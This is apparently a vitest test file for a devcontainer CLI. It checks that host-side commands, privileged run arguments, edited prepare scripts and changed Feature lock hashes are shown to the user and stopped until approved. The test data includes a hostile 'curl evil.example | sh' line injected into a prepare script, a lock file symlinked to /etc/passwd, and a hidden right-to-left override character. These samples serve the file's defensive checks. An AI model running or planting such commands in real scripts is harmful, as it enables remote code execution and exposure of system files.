import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { devcontainerProgram } from '../../harness/engine/devcontainerProgram.ts';
import { CliPlace } from './place.ts';

/** A start goes as far as this, on the host, and says that it did. */
const canary = 'touch canary; exit 1';
const config = (more: object) => JSON.stringify({ image: 'x', ...more }, null, 2);
const wasStarted = (place: CliPlace) => {
  const there = existsSync(join(place.folder, 'canary'));
  rmSync(join(place.folder, 'canary'), { force: true });
  return there;
};

/** An engine that has no container, so that a start comes as far as initializeCommand. */
const emptyEngine = (place: CliPlace) =>
  place.engine('case "$1" in version) echo 24.0.0;; ps) ;; *) exit 1;; esac');

/** One that fails the tools as they begin. */
const brokenEngine = (place: CliPlace) => place.engine('case "$*" in "ps --all"*) ;; *) exit 1;; esac');

function record(place: CliPlace): string | undefined {
  const folder = join(place.home, '.claude-sessions');
  const [id] = existsSync(folder) ? readdirSync(folder) : [];
  const path = join(folder, id ?? '', 'approved.json');
  return id && existsSync(path) ? path : undefined;
}

describe.concurrent('--up runs nothing unseen', () => {
  it('while the tools do', async () => {
    const place = new CliPlace();
    place.writeConfig(config({ initializeCommand: canary }));
    const args = [
      devcontainerProgram(),
      'up',
      '--workspace-folder',
      place.folder,
      '--docker-path',
      emptyEngine(place),
    ];
    spawnSync(process.execPath, args, { env: { HOME: place.home, PATH: process.env.PATH }, timeout: 60_000 });
    expect(wasStarted(place)).toBe(true);
  });

  it.each(['share', 'isolate'])(
    '%s shows what acts and stops; --yes goes on, and is remembered',
    async (mode) => {
      const place = new CliPlace();
      place.writeConfig(config({ initializeCommand: canary, runArgs: ['--pid=host'] }));
      const up = [mode, '--up', '--docker-path', emptyEngine(place)];
      const refused = await place.run(...up);
      expect(refused).toMatchObject({ exitCode: 1, stdout: '' });
      expect(refused.stderr).toContain(`+ initializeCommand: ${canary}`);
      expect(refused.stderr).toContain('+     "--pid=host"');
      expect(refused.stderr).toContain('with --yes');
      expect(refused.stderr).not.toContain('file .devcontainer/claude-sessions-prepare');
      // What was changed by then is no secret.
      expect(refused.stderr).toContain('The files were changed all the same');
      expect([wasStarted(place), record(place)]).toEqual([false, undefined]);

      expect((await place.run(...up, '--yes')).stderr).toContain('Approved by --yes.');
      expect(wasStarted(place)).toBe(true);
      const path = record(place) as string;
      expect(statSync(path).mode & 0o777).toBe(0o600);
      expect(JSON.parse(readFileSync(path, 'utf8'))).toMatchObject({ version: 1 });

      expect((await place.run(...up)).stderr).not.toContain('act on the host');
      expect(wasStarted(place)).toBe(true);
      place.writeConfig(place.read().replace('--pid=host', '--privileged\u202e'));
      const changed = await place.run(...up, '--json');
      expect(changed.exitCode).toBe(1);
      expect(JSON.parse(changed.stdout)).toMatchObject({ error: { code: 'not-approved' } });
      expect(changed.stderr).toContain('-     "--pid=host"');
      expect(changed.stderr).toContain('+     "--privileged\\u202e"');
      expect(wasStarted(place)).toBe(false);
    },
  );

  it('asks nothing about what our own commands change', async () => {
    const place = new CliPlace();
    place.writeConfig(
      config({
        initializeCommand: canary,
        mounts: ['type=bind,source=${localEnv:HOME}/.claude,target=/root/.claude'],
      }),
    );
    const start = async (...args: string[]) => {
      const { stderr } = await place.run(...args, '--up', '--docker-path', emptyEngine(place));
      expect(stderr).not.toContain('not approved');
      expect(wasStarted(place)).toBe(true);
    };
    await start('isolate', '--yes');
    await start('share');
    await start('share', '--memory', 'rw', '--tasks', '--all-projects', '--credentials', 'token');
    await start('share', '--no-profile', '--collection', 'localhost:5000/mirror/x');
    await start('isolate', '--install-claude');
    await start('share');
  });

  it('an edited prepare script is shown against ours', async () => {
    const place = new CliPlace();
    // Beside another configuration, where no command of ours writes it anew.
    place.write('.devcontainer/a/devcontainer.json', config({ initializeCommand: canary }));
    const named = (folder: string) => [
      '--config',
      join(place.folder, '.devcontainer', folder, 'devcontainer.json'),
    ];
    await place.run('share', ...named('a'));
    const script = '.devcontainer/a/claude-sessions-prepare.sh';
    place.write(script, place.read(script).replace('set -eu\n', 'set -eu\ncurl evil.example | sh\n'));
    place.write(
      '.devcontainer/b/devcontainer.json',
      config({ initializeCommand: `sh ${script} x; ${canary}` }),
    );
    const up = ['isolate', '--up', ...named('b'), '--docker-path', emptyEngine(place)];
    const { exitCode, stderr } = await place.run(...up);
    expect(exitCode).toBe(1);
    expect(stderr).toContain('+   curl evil.example | sh');
    expect(wasStarted(place)).toBe(false);
  });

  it('a plain set-up of ours asks nothing', async () => {
    const place = new CliPlace();
    place.writeConfig(config({ image: 'mcr.microsoft.com/devcontainers/base:debian' }));
    const { stderr } = await place.run('isolate', '--up', '--docker-path', brokenEngine(place));
    expect(stderr).not.toContain('act on the host');
    expect(stderr).toContain('did not come up');
    expect(record(place)).toBeDefined();
  });

  it('a Feature pinned by the tools asks nothing; one that is then pinned otherwise does, whatever became of the pin between', async () => {
    const place = new CliPlace();
    const feature = 'localhost:5000/x/y/tool:1';
    place.writeConfig(config({ initializeCommand: canary, features: { [feature]: {} } }));
    const lock = '.devcontainer/devcontainer-lock.json';
    const pin = (integrity: string) =>
      place.write(lock, JSON.stringify({ features: { [feature]: { version: '1.2.3', integrity } } }));
    const start = async (...args: string[]) => {
      const { stderr } = await place.run('isolate', '--up', '--docker-path', emptyEngine(place), ...args);
      return { stderr, started: wasStarted(place) };
    };
    expect(await start()).toMatchObject({ started: false });
    expect(await start('--yes')).toMatchObject({ started: true });
    pin('sha256:aaaa');
    expect(await start()).toMatchObject({ started: true });
    rmSync(join(place.folder, lock));
    expect(await start()).toMatchObject({ started: true });
    pin('sha256:bbbb');
    const asked = await start();
    expect(asked.started).toBe(false);
    expect(asked.stderr).toContain(`locked Feature ${feature}`);
    expect(asked.stderr).toContain('-   sha256:aaaa');
    expect(asked.stderr).toContain('+   sha256:bbbb');
    pin('sha256:aaaa');
    expect(await start()).toMatchObject({ started: true });
    pin('sha256:bbbb');
    expect(await start('--yes')).toMatchObject({ started: true });
    expect(await start()).toMatchObject({ started: true });
  });

  it('a lock file that is a link, or no JSON, is shown as a file', async () => {
    const place = new CliPlace();
    place.writeConfig(config({ initializeCommand: canary }));
    await place.run('isolate', '--up', '--yes', '--docker-path', emptyEngine(place));
    wasStarted(place);
    const lock = '.devcontainer/devcontainer-lock.json';
    for (const [make, shown] of [
      [() => place.write(lock, '{ "features": '), `file ${lock}`],
      [() => symlinkSync('/etc/passwd', join(place.folder, lock)), `link ${lock}`],
    ] as const) {
      rmSync(join(place.folder, lock), { force: true });
      make();
      const { stderr } = await place.run('isolate', '--up', '--docker-path', emptyEngine(place));
      expect(stderr).toContain(shown);
      expect(stderr).not.toContain('root:');
      expect(wasStarted(place)).toBe(false);
    }
  });

  it('remove forgets it', async () => {
    const place = new CliPlace();
    place.writeConfig(config({}));
    await place.run('isolate', '--up', '--yes', '--docker-path', brokenEngine(place));
    expect(record(place)).toBeDefined();
    await place.run('remove', '--docker-path', brokenEngine(place));
    expect(record(place)).toBeUndefined();
  });
});
